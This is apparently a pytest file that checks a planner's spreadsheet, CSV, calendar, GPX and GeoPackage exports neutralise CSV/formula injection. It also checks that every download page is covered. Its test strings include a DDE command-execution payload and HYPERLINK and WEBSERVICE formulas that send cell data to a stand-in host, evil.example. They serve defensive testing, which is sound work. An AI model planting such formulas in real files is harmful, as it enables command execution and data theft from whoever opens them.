"""Five hundred texts that a spreadsheet would run, through every file that is made: read back, they are text."""

from __future__ import annotations

import csv
import io
import re
import sys
import unicodedata
from collections.abc import Callable
from datetime import UTC, date, datetime, timedelta
from itertools import product
from typing import Any

import gpxpy
import icalendar
import openpyxl
import pandas as pd
import pytest

from dashboard.screens.overdue_preview import issue_csv
from planner.export.geopackage import geopackage
from planner.export.gpx import DayTrack, Waypoint, gpx
from planner.export.ics import Event, calendar_file
from planner.export.lists import list_workbook
from planner.export.report import Column, Kind, TableSheet
from tests.dashboard.fakes import ROOT
from tests.planner.export.factories import report

#: the package gives a function of this name too
workbooks = sys.modules["planner.export.workbook"]
SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "\r\n=")
BEFORE = ("", " ", "   ", "\t", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2060", "\n")
BODIES = (
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://evil.example/?q="&A1,"Rechnung")',
    'SUM(1,2)*WEBSERVICE("http://evil.example")',
    "蔡明远",
)
TEXTS = [before + sign + body for before, sign, body in product(BEFORE, SIGNS, BODIES)]
NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)
DAY = date(2026, 11, 24)


def runs(text: str) -> bool:
    """Say whether a spreadsheet may run a cell: what can be seen of it first is a sign of a formula, wide or narrow."""
    seen = text.lstrip("".join(sign for sign in set(text) if unicodedata.category(sign)[0] in "ZC"))
    return unicodedata.normalize("NFKC", seen[:1]) in ("=", "+", "-", "@") or text[:1] in ("\t", "\r", "\n")


def cells(data: bytes) -> list[Any]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]


def of_report() -> bytes:
    made = report(title=TEXTS[0], notes=list(zip(TEXTS[::2], TEXTS[1::2], strict=True)))
    return workbooks.workbook(made)


def of_tables() -> bytes:
    column = Column("a", "a", TEXTS[7], TEXTS[8], Kind.TEXT)
    sheet = TableSheet("Stops", pd.DataFrame({"a": TEXTS}), [column])
    return workbooks.tables_workbook(TEXTS[3], DAY, [sheet], ("Notes", [(TEXTS[4], TEXTS[5])]), header=TEXTS[6])


def of_plain() -> bytes:
    return workbooks.plain_workbook("Letters", pd.DataFrame({TEXTS[1]: TEXTS}))


def of_list() -> bytes:
    return list_workbook("Calls", pd.DataFrame({"name": TEXTS}), {"name": TEXTS[2]})


BOOKS = (of_report, of_tables, of_plain, of_list)


def test_there_are_five_hundred_and_each_would_run() -> None:
    assert len(set(TEXTS)) == 500
    assert all(map(runs, TEXTS))


@pytest.mark.parametrize("book", BOOKS)
def test_a_workbook_holds_them_as_text(book: Callable[[], bytes]) -> None:
    found = cells(book())
    assert len(found) >= 500
    assert not [cell.coordinate for cell in found if cell.data_type == "f" or cell.hyperlink]
    # Saved as CSV and opened again, a cell is read anew: it must not begin as a formula even then.
    assert not [cell.value for cell in found if isinstance(cell.value, str) and runs(cell.value)]


@pytest.mark.parametrize("book", BOOKS)
def test_the_control_without_the_protection_they_would_run(
    book: Callable[[], bytes], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(workbooks, "harmless", str)
    monkeypatch.setattr("planner.export.lists.harmless", str)
    assert [cell for cell in cells(book()) if isinstance(cell.value, str) and runs(cell.value)]


def test_a_file_of_issues_holds_them_as_text() -> None:
    told = issue_csv(pd.DataFrame({"row": range(len(TEXTS)), "text": TEXTS, "cure": TEXTS})).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(told, newline="")))[1:]
    assert len(rows) == len(TEXTS)
    assert not [cell for row in rows for cell in row[1:] if runs(cell)]
    for row, text in zip(rows, TEXTS, strict=True):
        assert row[1] == f"'{text}"


def test_a_calendar_gives_them_back_unchanged_and_in_their_own_fields() -> None:
    events = [
        Event(str(n), NOW, NOW + timedelta(minutes=20), title=text, place=text, text=text)
        for n, text in enumerate(TEXTS)
    ]
    read = icalendar.Calendar.from_ical(calendar_file(TEXTS[0], events, now=NOW, made=NOW, draft=False))
    found = read.walk("VEVENT")
    assert len(found) == len(TEXTS)
    for one, text in zip(found, TEXTS, strict=True):
        assert re.sub(r"\s", "", str(one["SUMMARY"])) == re.sub(r"\s", "", text)
        assert set(one) <= {
            *("UID", "DTSTAMP", "DTSTART", "DTEND", "SEQUENCE", "LAST-MODIFIED", "SUMMARY", "LOCATION"),
            *("DESCRIPTION", "CLASS", "STATUS", "TRANSP"),
        }


def test_a_navigation_file_gives_them_back_as_names() -> None:
    stops = [Waypoint(109.5, 29.1, text, text) for text in TEXTS]
    data = gpx("week", "", [DayTrack("day", "", [(109.5, 29.1), (109.6, 29.2)], stops)], now=NOW)
    names = [one.name for one in gpxpy.parse(data.decode()).waypoints]
    assert [re.sub(r"[\s\ufeff]", "", name) for name in names] == [re.sub(r"[\s\ufeff]", "", text) for text in TEXTS]


def test_a_geopackage_keeps_them_as_values(tmp_path: Any) -> None:
    import pyogrio

    file = tmp_path / "a.gpkg"
    file.write_bytes(geopackage(report(notes=[("note", text) for text in TEXTS])))
    told = pyogrio.read_dataframe(file, layer="about")["text"]
    assert set(TEXTS) <= set(told)


def test_no_table_on_a_page_is_taken_past_these_files() -> None:
    from streamlit import config

    # Streamlit's own button would write the cells as they are, and leave no trace.
    assert config.get_option("client.disableDataExport") is True


#: every place that hands out a file, and what makes it; a new one is to be tested above before it stands here
MAKERS = {
    "channels.py": "list_workbook",
    "clocks_letters.py": "plain_workbook",
    "overdue.py": "sample.read_bytes",  # the invented list of the demo, as it lies there
    "overdue_preview.py": "issue_csv",
    "regions_export.py": "workbook geopackage",
    "risk_export.py": "tables_workbook",
    "visit_sheet.py": "visit_sheet_pdf",
    "week_files.py": "week_files_book week_files_paper week_files_out",
    "week_files_all.py": "week_files",
}


def test_every_file_that_a_page_offers_is_known_here() -> None:
    found = {
        file.name
        for file in (ROOT / "dashboard").rglob("*.py")
        if "download_button(" in file.read_text(encoding="utf-8")
    }
    assert found == set(MAKERS)
    for name, makers in MAKERS.items():
        text = (ROOT / "dashboard" / "screens" / name).read_text(encoding="utf-8")
        assert all(one in text for one in makers.split()), name
    writers = [
        file.name
        for file in (ROOT / "dashboard").rglob("*.py")
        if re.search(r"\.to_(csv|excel|html|json)\(", file.read_text(encoding="utf-8"))
    ]
    assert writers == ["overdue_preview.py"]
